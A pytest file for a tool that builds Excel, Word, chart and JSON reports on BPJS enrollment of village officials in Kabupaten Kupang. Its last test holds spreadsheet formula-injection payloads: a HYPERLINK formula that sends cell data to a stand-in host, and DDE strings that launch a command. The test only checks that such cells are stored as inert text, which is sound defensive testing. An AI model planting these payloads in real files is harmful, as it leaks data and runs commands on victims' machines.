"""`perbup report`: the seed figures, sums, the workbook, the chart, the Word report, status updates."""

from __future__ import annotations

import csv
import json
import re
import struct
import zipfile
from collections import defaultdict
from pathlib import Path

import docx
import openpyxl
import pytest

from perbup.base.formats import terbilang
from perbup.documents.report import VARIABLES, as_json, build_report, chart_slot
from perbup.docx.render import PreparedTemplate
from perbup.load.dataset import load_dataset
from perbup.load.workspace import Workspace
from tests.expected import seed_totals
from tests.helpers import HEADER, aparat_rows, make_workspace, nik, run

ROOT = Path(__file__).resolve().parent.parent
SEEDS = ROOT / "seeds"
FILES = ("report.xlsx", "coverage.png", "report.docx")
SEED_MONTHLY = seed_totals().bulanan  # from the rules table's rows (tests/expected.py)
KUPANG_TENGAH = seed_totals(kecamatan="Kupang Tengah").bulanan


def seed_truth() -> dict[str, int]:
    """What the seed data says, counted here straight from the CSV files."""
    with (SEEDS / "data" / "desa.csv").open(encoding="utf-8") as handle:
        desa = list(csv.DictReader(handle))
    with (SEEDS / "data" / "aparat.csv").open(encoding="utf-8") as handle:
        people = list(csv.DictReader(handle))
    per_desa: dict[str, list[bool]] = defaultdict(list)
    for p in people:
        per_desa[p["Kode Desa"]].append(p["Terdaftar"] == "Ya")
    return {"desa": len(desa), "desa_terdaftar": sum(all(v) for v in per_desa.values()),
            "aparat": len(people), "aparat_terdaftar": sum(p["Terdaftar"] == "Ya" for p in people)}


def angka(n: int) -> str:
    return f"{n:,}".replace(",", ".")


@pytest.fixture(scope="module")
def seed_report(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    out = tmp_path_factory.mktemp("seed-report")
    result = run("report", "-w", SEEDS, "-o", out)
    assert result.code == 0, result.stderr
    assert result.lines[-1] == "report written: " + ", ".join(
        str(out / "report" / f) for f in ("report.xlsx", "coverage.png", "report.docx"))
    return out / "report", result.stdout


def table_rows(stdout: str) -> dict[str, list[int]]:
    """The text table as {kecamatan: [desa, desa terdaftar, aparat, aparat terdaftar, bulan, tahun]}."""
    rows = {}
    for line in stdout.splitlines()[2:]:
        match = re.fullmatch(r"(\S.*?)\s+([\d.]+)\s+([\d.]+)\s+[\d,]+\s+([\d.]+)\s+([\d.]+)\s+"
                             r"[\d,]+\s+([\d.]+)\s+([\d.]+)", line)
        if match:
            rows[match.group(1)] = [int(g.replace(".", "")) for g in match.groups()[1:]]
    return rows


def test_seed_text_shows_2_of_160_desa_and_19_aparat(seed_report: tuple[Path, str]) -> None:
    _, stdout = seed_report
    truth = seed_truth()
    assert (truth["desa"], truth["desa_terdaftar"], truth["aparat_terdaftar"]) == (160, 2, 19)
    lines = stdout.splitlines()
    assert lines[0].split() == ["Kecamatan", "Desa", "Desa", "terdaftar", "%", "desa", "Aparat",
                                "Aparat", "terdaftar", "%", "aparat", "Iuran/bulan", "(Rp)",
                                "Iuran/tahun", "(Rp)"]
    total = next(line for line in lines if line.startswith("Jumlah"))
    assert total.split() == ["Jumlah", "160", "2", "1,3", angka(truth["aparat"]), "19", "1,2",
                             angka(SEED_MONTHLY), angka(12 * SEED_MONTHLY)]
    assert "Kupang Tengah          7               2    28,6" in stdout
    assert len(set(map(len, lines[:lines.index(total) + 1]))) <= 3  # aligned (rules, rows)


def test_seed_json_has_the_same_figures() -> None:
    dataset = load_dataset(Workspace.load(SEEDS))
    data = json.loads(json.dumps(as_json(build_report(dataset))))
    truth = seed_truth()
    for key, value in truth.items():
        assert data[key] == value, key
    assert data["persen_desa"] == 1.3  # 1.25 rounded half-up
    assert data["iuran_bulanan"] == SEED_MONTHLY and data["iuran_tahunan"] == 12 * SEED_MONTHLY
    assert data["pencocokan"] is None
    assert len(data["per_kecamatan"]) == 24
    assert set(data["per_kecamatan"][0]) >= {"kecamatan", "kode", "desa", "desa_terdaftar", "aparat",
                                             "aparat_terdaftar", "iuran_bulanan", "iuran_tahunan"}
    for key in ("desa", "desa_terdaftar", "aparat", "aparat_terdaftar", "iuran_bulanan",
                "iuran_tahunan"):
        assert sum(k[key] for k in data["per_kecamatan"]) == data[key], key
    assert sum(j["aparat"] for j in data["per_jabatan"]) == data["aparat"]
    assert sum(j["iuran_bulanan"] for j in data["per_jabatan"]) == data["iuran_bulanan"]
    assert data["per_jabatan"][0]["jabatan"] == "Kepala Desa"


def test_text_per_kecamatan_rows_sum_to_the_total(seed_report: tuple[Path, str]) -> None:
    rows = table_rows(seed_report[1])
    total = rows.pop("Jumlah")
    assert len(rows) == 24
    assert [sum(column) for column in zip(*rows.values(), strict=True)] == total


def test_workbook_has_a_sheet_per_level_with_formats(seed_report: tuple[Path, str]) -> None:
    book = openpyxl.load_workbook(seed_report[0] / "report.xlsx")
    assert book.sheetnames == ["Kabupaten", "Kecamatan", "Jabatan"]
    truth = seed_truth()
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
        header = [cell.value for cell in sheet[1]]
        assert all(sheet.column_dimensions[chr(65 + i)].width >= 8 for i in range(len(header)))
        money = header.index("Iuran per bulan (Rp)") + 1
        percent = header.index("% aparat") + 1
        assert sheet.cell(2, money).number_format == "#,##0"
        assert sheet.cell(2, percent).number_format == "0.0%"
    kab = book["Kabupaten"]
    values = dict(zip([c.value for c in kab[1]], [c.value for c in kab[2]], strict=True))
    assert values["Kabupaten"] == "Kabupaten Kupang"
    assert [values[k] for k in ("Desa", "Desa terdaftar", "Aparat", "Aparat terdaftar")] == [
        truth["desa"], truth["desa_terdaftar"], truth["aparat"], truth["aparat_terdaftar"]]
    assert values["% desa"] == pytest.approx(2 / 160)
    assert values["Iuran per bulan (Rp)"] == SEED_MONTHLY
    kec = book["Kecamatan"]
    rows = [[c.value for c in row] for row in kec.iter_rows(min_row=2)]
    assert rows[-1][1] == "Jumlah" and kec.cell(kec.max_row, 2).font.b
    assert len(rows) == 25
    for column in (2, 3, 5, 6, 9, 10):
        assert sum(r[column] for r in rows[:-1]) == rows[-1][column]
    assert book.properties.modified.isoformat().startswith("2026-12-01")


def test_chart_is_a_png_of_sensible_size(seed_report: tuple[Path, str]) -> None:
    data = (seed_report[0] / "coverage.png").read_bytes()
    assert data.startswith(b"\x89PNG\r\n\x1a\n") and data[12:16] == b"IHDR"
    width, height = struct.unpack(">II", data[16:24])
    assert 1000 <= width <= 2000 and 1000 <= height <= 2500
    assert 20_000 < len(data) < 1_000_000
    assert b"Software" not in data and b"tIME" not in data


def test_word_report_has_the_figures_and_the_chart(seed_report: tuple[Path, str]) -> None:
    folder = seed_report[0]
    document = docx.Document(str(folder / "report.docx"))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "KEPESERTAAN APARAT DESA DALAM PROGRAM" in text and "KABUPATEN KUPANG" in text
    assert "dari 1.559 orang aparat desa pada 160 desa di Kabupaten Kupang, sebanyak 19 orang" in text
    assert "terdaftar sebanyak 2 desa (1,3%); 158 desa lainnya" in text
    assert (f"dianggarkan dalam APB Desa untuk aparat desa yang belum terdaftar sebesar "
            f"Rp{angka(SEED_MONTHLY)},00 ({terbilang(SEED_MONTHLY)} rupiah) per bulan atau "
            f"Rp{angka(12 * SEED_MONTHLY)},00 ({terbilang(12 * SEED_MONTHLY)} rupiah) per tahun.") in text
    (table,) = document.tables
    rows = [[cell.text for cell in row.cells] for row in table.rows]
    assert len(rows) == 2 + 24 + 1
    assert rows[2 + 4] == ["5", "Kupang Tengah", "7", "2", "67", "19", "28,4", angka(KUPANG_TENGAH),
                           angka(12 * KUPANG_TENGAH)]
    assert rows[-1][1:] == ["Jumlah", "160", "2", "1.559", "19", "1,2", angka(SEED_MONTHLY),
                            angka(12 * SEED_MONTHLY)]
    with zipfile.ZipFile(folder / "report.docx") as archive:
        xml = archive.read("word/document.xml").decode()
        media = [n for n in archive.namelist() if n.startswith("word/media/")]
        assert [archive.read(n) for n in media] == [(folder / "coverage.png").read_bytes()]
    assert "{{" not in xml and "{%" not in xml


def test_two_runs_give_identical_files(seed_report: tuple[Path, str], tmp_path: Path) -> None:
    assert run("report", "-w", SEEDS, "-o", tmp_path, "--format", "json").code == 0
    for name in FILES:
        assert (tmp_path / "report" / name).read_bytes() == (seed_report[0] / name).read_bytes(), name
    assert not list(tmp_path.rglob(".perbup-tmp-*"))


# --- status updates ----------------------------------------------------------------------------

def test_enrolled_option_reports_matched_unknown_and_missing(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws", HEADER + aparat_rows()
                        + aparat_rows("53.01.08.2006", "530108", start=11))
    unknown = nik("530104", "010190", 99)
    bokonusan = [nik("530104", b, s) for b, s in (("120385", 1), ("520385", 2), ("120385", 3),
                                                  ("120385", 4))]
    listed = tmp_path / "bpjs.csv"
    listed.write_text("No KTP,Nama,Nomor Peserta\n"
                      + "".join(f"{n},Orang {i},2100000000{i}\n" for i, n in enumerate(bokonusan))
                      + f"{unknown},Orang Asing,21000000009\n"
                      + f"{nik('530108', '120385', 11)},Orang Oelnasi,21000000008\n",
                      encoding="utf-8")
    result = run("report", "-w", ws, "-o", tmp_path / "out", "--enrolled", listed)
    assert result.code == 0, result.stderr
    assert result.stdout.split("\n\n", 1)[1] == (
        f"Daftar peserta BPJS {listed}: 6 NIK\n"
        "  cocok dengan daftar aparat: 5 (5 baru terdaftar)\n"
        "  tidak dikenal (NIK tidak ada di daftar aparat): 1\n"
        f"    baris 6  {unknown}  KPJ 21000000009  Orang Asing\n"
        "  masih belum terdaftar di desa yang ada dalam daftar:\n"
        "    53.01.08.2006  Oelnasi (Kupang Tengah): 3 dari 4 aparat\n"
        "  desa lain dengan aparat yang belum terdaftar: 0 desa, 0 aparat\n")
    assert f"bpjs.csv:6: warning: NIK {unknown} (Orang Asing) is not in the apparatus list" in result.stderr
    total = next(line for line in result.stdout.splitlines() if line.startswith("Jumlah"))
    assert total.split()[:7] == ["Jumlah", "4", "1", "25,0", "8", "5", "62,5"]
    book = openpyxl.load_workbook(tmp_path / "out" / "report" / "report.xlsx")
    assert book.sheetnames == ["Kabupaten", "Kecamatan", "Jabatan", "Peserta BPJS", "Belum per Desa"]
    statuses = [row[4] for row in book["Peserta BPJS"].iter_rows(min_row=2, values_only=True)]
    assert statuses == ["baru terdaftar"] * 5 + ["tidak dikenal"]
    text = "\n".join(p.text for p in docx.Document(
        str(tmp_path / "out" / "report" / "report.docx")).paragraphs)
    assert "5 orang dalam daftar tersebut cocok" in text and "Sebanyak 1 NIK" in text

    data = json.loads(run("report", "-w", ws, "-o", tmp_path / "out", "--enrolled", listed,
                          "--format", "json").stdout)
    match = data["pencocokan"]
    assert [len(match["cocok"]), len(match["tidak_dikenal"])] == [5, 1]
    assert match["belum_per_desa"] == [{"kode": "53.01.08.2006", "desa": "Oelnasi",
                                        "kecamatan": "Kupang Tengah", "aparat": 4, "belum": 3,
                                        "dalam_daftar": True}]
    assert data["aparat_terdaftar"] == 5 and data["desa_terdaftar"] == 1


def test_a_broken_template_writes_nothing(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws")
    (ws / "templates").mkdir()
    (ws / "templates" / "laporan.docx").write_bytes(b"not a zip")
    result = run("report", "-w", ws, "-o", tmp_path / "out")
    assert result.code == 1
    assert "laporan.docx: error: not a Word .docx file" in result.stderr
    assert not (tmp_path / "out").exists()


# --- the template ------------------------------------------------------------------------------

def test_template_is_f4_bookman_with_a_chart_slot_and_known_variables() -> None:
    template = ROOT / "templates" / "laporan.docx"
    assert PreparedTemplate.load(template).variables == VARIABLES
    slot = chart_slot(template.read_bytes())
    assert slot is not None and slot.member.startswith("word/media/")
    assert (round(slot.width_cm, 1), round(slot.height_cm, 1)) == (16.0, 19.0)
    document = docx.Document(str(template))
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (215, 330)
    assert document.styles["Normal"].font.name == "Bookman Old Style"
    assert document.styles["Normal"].font.size.pt == 12


def test_workbook_cells_from_the_data_are_text_never_formulas(tmp_path: Path) -> None:
    payloads = {"name": '=HYPERLINK("http://example.org/?d="&B2,"klik")',
                "kpj": "@SUM(1+1)*cmd|' /C calc'!A0", "kecamatan": "-2+3+cmd|' /C calc'!A0",
                "desa": "+Bokonusan"}
    desa = ("Kode Desa,Nama Desa,Kode Kecamatan,Kecamatan\n"
            f"53.01.04.2003,{payloads['desa']},53.01.04,\"{payloads['kecamatan']}\"\n")
    ws = make_workspace(tmp_path / "ws", HEADER + aparat_rows(), desa=desa)
    listed = tmp_path / "bpjs.csv"
    name = payloads["name"].replace('"', '""')
    listed.write_text("NIK,Nama,KPJ\n"
                      f"{nik(serial=1)},\"{name}\",\"{payloads['kpj']}\"\n", encoding="utf-8")
    result = run("report", "-w", ws, "-o", tmp_path / "out", "--enrolled", listed)
    assert result.code == 0, result.stderr
    path = tmp_path / "out" / "report" / "report.xlsx"
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(n) for n in sheets)
    book = openpyxl.load_workbook(path)
    cells = {cell.value: cell for sheet in book.worksheets for row in sheet.iter_rows()
             for cell in row if isinstance(cell.value, str)}
    for payload in payloads.values():
        assert payload in cells, payload
        assert cells[payload].data_type == "s" and cells[payload].quotePrefix, payload
    assert not cells["Yohanis Tefa"].quotePrefix  # ordinary text stays as it was
